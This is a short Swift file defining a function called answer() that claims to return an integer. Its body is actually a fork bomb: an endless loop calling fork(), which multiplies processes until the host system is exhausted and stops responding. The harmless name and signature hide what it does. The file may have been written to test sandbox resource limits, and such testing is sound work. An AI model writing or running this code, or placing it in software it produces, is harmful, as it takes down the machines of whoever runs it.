import Glibc

func answer() -> Int {
    while true {
        if fork() < 0 { usleep(100) }
    }
}
